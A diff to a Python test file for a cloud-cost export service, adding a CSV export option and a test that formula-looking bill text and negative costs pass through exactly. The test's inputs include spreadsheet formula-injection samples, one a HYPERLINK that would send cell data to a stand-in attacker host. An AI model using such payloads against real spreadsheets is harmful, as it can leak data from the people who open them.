@@ -386,10 +386,11 @@ def test_with_attribution_on_the_cli_ties_out_on_every_sample(samples, tmp_path)
 USAGE_LINE = {"ServiceName": "'Compute'", "ChargeCategory": "'Usage'", "BilledCost": "'1'", "EffectiveCost": "'1'"}
 
 
-def exported_lines(tmp_path, columns: dict[str, str], values: str, names: str, select: str) -> list[tuple]:
+def exported_lines(tmp_path, columns: dict[str, str], values: str, names: str, select: str,
+                   csv: bool = False) -> list[tuple]:
     """`select` (columns, ORDER BY ALL) of the export of a lake holding the lines `values`
     (SQL VALUES rows, named `names`): one hour of 2026-11-02 in USD, `columns` the canonical
-    columns as expressions over those names."""
+    columns as expressions over those names. `csv`: of the `--csv` export, every cell as text."""
     from service.core.lake import Lake
     from service.core.schema import cost_select_list
 
@@ -402,8 +403,23 @@ def exported_lines(tmp_path, columns: dict[str, str], values: str, names: str, s
     rows = con.sql(f"SELECT {canonical} FROM (VALUES {values}) AS t({names})")
     lake.commit_costs(con, rows, source="cur", delivery_id="d1", periods=None)
     con.close()
-    export_focus(attribution_config(lake=lake), ExportOptions(str(tmp_path / "out")))
-    return duckdb.sql(f"SELECT {select} FROM '{tmp_path}/out/2026-11/cost_and_usage.parquet' ORDER BY ALL").fetchall()
+    export_focus(attribution_config(lake=lake), ExportOptions(str(tmp_path / "out"), csv=csv))
+    data = (f"read_csv('{tmp_path}/out/2026-11/cost_and_usage.csv', all_varchar = true)" if csv
+            else f"'{tmp_path}/out/2026-11/cost_and_usage.parquet'")
+    return duckdb.sql(f"SELECT {select} FROM {data} ORDER BY ALL").fetchall()
+
+
+def test_the_focus_csv_keeps_formula_looking_cells_and_negative_costs_exact(tmp_path):
+    """The FOCUS CSV is data for FinOps tools, not a spreadsheet report: a bill's text that a
+    spreadsheet would run (`=HYPERLINK(...)`, `@SUM`, `+`, `-`) is written as the bill says it,
+    as a negative cost is, so every reader reads the lake's values (README, Export)."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+cmd", "-2+3"]
+    lines = exported_lines(tmp_path, {
+        "ProviderName": "'AWS'", "ServiceName": "'Compute'", "ChargeCategory": "'Usage'", "ResourceId": "rid",
+        "ResourceName": "name", "BilledCost": "billed", "EffectiveCost": "billed",
+    }, ", ".join(f"('r{i}', '{text.replace(chr(39), chr(39) * 2)}', '-1.5')" for i, text in enumerate(hostile)),
+       "rid, name, billed", "ResourceName, BilledCost", csv=True)
+    assert lines == sorted((text, "-1.500000000000") for text in hostile)
 
 
 def test_a_commitment_fee_with_unused_cost_becomes_a_purchase_and_an_unused_usage_line(tmp_path):
